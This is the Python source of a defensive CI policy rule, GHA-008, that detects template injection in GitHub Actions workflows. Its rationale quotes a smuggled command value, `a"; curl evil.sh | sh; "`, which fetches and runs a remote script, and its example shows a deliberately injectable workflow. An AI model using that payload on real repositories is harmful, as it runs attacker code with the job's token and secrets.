"""GHA-008: no attacker-controlled ``${{ }}`` expansion inside scripts.

Sinks are ``run:`` and the inputs that actions run as code (``knowledge.ci.code_inputs``,
plus ``gha.code_inputs``). Taint follows env entries, ``$GITHUB_ENV`` and ``$GITHUB_OUTPUT``
writes, job outputs and matrix values back to its source (``knowledge.ci.dataflow``).
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from pytest_devops_policy.api import PathPart, Severity, Violation, policy
from pytest_devops_policy.context import Context
from pytest_devops_policy.formats.github_actions.expressions import normalize_context
from pytest_devops_policy.formats.github_actions.workflow import Job, Step
from pytest_devops_policy.knowledge.ci.code_inputs import code_inputs_of
from pytest_devops_policy.knowledge.ci.dataflow import TaintTracker
from pytest_devops_policy.options import GhaOptions

Sink = tuple[str, str, tuple[PathPart, ...]]


def _sinks(step: Step, extra: Mapping[str, tuple[str, ...]] | None) -> list[Sink]:
    """``run:``, and the ``with:`` inputs of actions that run them as code
    (``knowledge.ci.code_inputs``)."""
    out: list[Sink] = []
    if step.run is not None:
        out.append(("run", step.run, step.path("run")))
    uses = step.uses
    if uses is not None and uses.is_remote:
        wanted = code_inputs_of(uses.name, extra)
        for key, value in step.with_.items():
            if str(key).lower() in wanted and isinstance(value, str):
                out.append((f"with.{key}", value, step.path("with", key)))
    return out


@policy(
    id="GHA-008",
    name="no-template-injection",
    title="No attacker-controlled expressions in scripts",
    severity=Severity.CRITICAL,
    rationale=(
        "GitHub substitutes ${{ }} expressions into the script text before the shell "
        'runs it. An issue title or branch name such as a"; curl evil.sh | sh; " '
        "becomes code running with the job's token and secrets. The same holds for the "
        "inputs some actions run as code (github-script's script, azure/cli's inlineScript, "
        "ssh-action's script, ...), and for values that carry such text on: a step output "
        "or $GITHUB_ENV entry written from it, a job output, a matrix built from it."
    ),
    remediation=(
        "Pass the value through an environment variable (env: TITLE: ${{ "
        'github.event.issue.title }}) and use it quoted in the script ("$TITLE"); in '
        "actions/github-script read it from process.env."
    ),
    controls=("CWE-78", "NIST-800-53-SI-10", "OpenSSF-Scorecard-Dangerous-Workflow"),
    references=(
        "checkov:CKV_GHA_2",
        "zizmor:template-injection",
        "actionlint:expression",
        "scorecard:Dangerous-Workflow",
    ),
    example=(
        "on: issues\n"
        "jobs:\n"
        "  triage:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        '      - run: echo "${{ github.event.issue.title }}"\n'
    ),
    use_instead=(
        "on: issues\n"
        "jobs:\n"
        "  triage:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        "      - env:\n"
        "          TITLE: ${{ github.event.issue.title }}\n"
        '        run: echo "$TITLE"\n'
    ),
)
def no_template_injection(job: Job, context: Context) -> Iterator[Violation]:
    options = context.options(GhaOptions)
    tracker = TaintTracker(job, tuple(normalize_context(c) for c in options.tainted_contexts))
    for step in job.steps:
        for field, text, path in _sinks(step, options.code_inputs):
            fix = (
                'use "$VAR"'
                if field == "run"
                else "read it from process.env"
                if field == "with.script"
                and step.uses
                and step.uses.name.lower() == "actions/github-script"
                else "read the variable in the script"
            )
            seen: set[str] = set()
            for expr, ctx, taint in tracker.of_text(text, step):
                if ctx in seen:
                    continue
                seen.add(ctx)
                yield Violation(
                    f"{step.label} {field}: '{expr.text}' pastes {taint.describe(ctx)} "
                    f"into the script text; pass it through env: and {fix}",
                    path=path,
                    severity=taint.severity,
                )
